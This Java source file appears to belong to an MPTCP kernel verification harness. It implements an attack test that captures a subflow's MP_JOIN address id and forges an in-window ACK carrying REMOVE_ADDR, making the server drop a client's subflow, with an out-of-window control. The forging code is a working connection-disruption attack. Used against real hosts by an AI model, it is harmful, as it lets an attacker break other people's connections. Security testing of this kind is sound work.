package org.mptcpverify.kernel;

import java.io.IOException;
import java.net.InetAddress;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.mptcpverify.wire.MptcpOption;
import org.mptcpverify.wire.TcpSegment;

/**
 * remove-addr-forge: the client has a second address (10.1.0.11, MPTCP endpoint id 5, subflow)
 * and joins the server from it. The attacker reads the join's address id from the captured SYN +
 * MP_JOIN and forges, in the client's name and inside the initial subflow's window, an ACK
 * carrying REMOVE_ADDR of that id (RFC 8684 3.4.2 gives REMOVE_ADDR no authenticator). Success:
 * the server kernel counts it (`MPTcpExtRmAddr`), closes the join (MPTCP_INFO `subflows` back to
 * 0, no established socket with 10.1.0.11 in `ss`), although the client withdrew nothing.
 * Control: the same segment half the sequence space out of the window.
 */
public final class RemoveAddrForge implements KernelAttack {
    static final InetAddress CLIENT_ALT = Topology.addr("10.1.0.11");
    static final int ENDPOINT_ID = 5;

    @Override
    public Profile profile() {
        return new Profile("remove-addr-forge", "PathManagerIntegrity", OUT_OF_WINDOW);
    }

    @Override
    public boolean run(AttackContext ctx) throws IOException {
        Topology topo = ctx.topology();
        int mark = ctx.tap().size();
        PathManager.addEndpoint(topo.client(), CLIENT_ALT, ENDPOINT_ID, "subflow");
        int before = PathManager.awaitSubflows(ctx.server(), 1, 3_000);
        ctx.note("client: second address " + CLIENT_ALT.getHostAddress() + " (endpoint id " + ENDPOINT_ID
                + ", subflow) joined; server MPTCP_INFO subflows = " + before);
        Optional<MptcpOption.MpJoinSyn> join = ctx.tap().await(mark, t -> t.src().equals(CLIENT_ALT)
                && t.has(TcpSegment.SYN), 1_000).flatMap(s -> CapturedConnection.option(s.segment(), MptcpOption.MpJoinSyn.class));
        if (before != 1 || join.isEmpty()) {
            ctx.note("the client's join was not established or not captured; nothing to remove");
            return false;
        }
        int id = join.get().addressId();
        ctx.note("attacker: captured the join's SYN + MP_JOIN, address id " + id);
        int sent = ctx.tap().size();
        ctx.tap().send(Topology.SERVER_MAC, Forge.inWindowOrControl(ctx, true, new MptcpOption.RemoveAddr(List.of(id))));
        ctx.note("attacker: sent ACK + REMOVE_ADDR(" + id + ") as the client on the initial subflow"
                + (ctx.wrongKeys() ? ", sequence number out of the window" : ", in window"));
        int after = PathManager.awaitSubflows(ctx.server(), 0, 2_000);
        Optional<Wiretap.Seen> close = ctx.tap().await(sent, t -> t.src().equals(ctx.connection().server())
                && t.dst().equals(CLIENT_ALT) && (t.has(TcpSegment.RST) || t.has(TcpSegment.FIN)), 1_000);
        ctx.note("server kernel: " + close.map(s -> (s.segment().has(TcpSegment.RST) ? "RST" : "FIN") + " on the join to "
                + CLIENT_ALT.getHostAddress()).orElse("no FIN or RST on the join within 1 s")
                + "; MPTCP_INFO subflows = " + after);
        List<String> ss = Ss.established(topo.server(), CLIENT_ALT, 0);
        ctx.note("server ss (established, peer " + CLIENT_ALT.getHostAddress() + "): "
                + (ss.isEmpty() ? "none" : String.join("; ", ss.stream().map(Ss::brief).toList())));
        Map<String, Long> delta = ctx.serverCounterDelta();
        ctx.note("server MIB counters changed: " + delta);
        ctx.note("client application: " + (ctx.client().events().stream().anyMatch(e -> e.path("event").asText().matches("error|eof"))
                ? "error or EOF" : "no error or EOF (the connection goes on without the join)"));
        return delta.getOrDefault("MPTcpExtRmAddr", 0L) >= 1 && after == 0 && ss.isEmpty();
    }
}
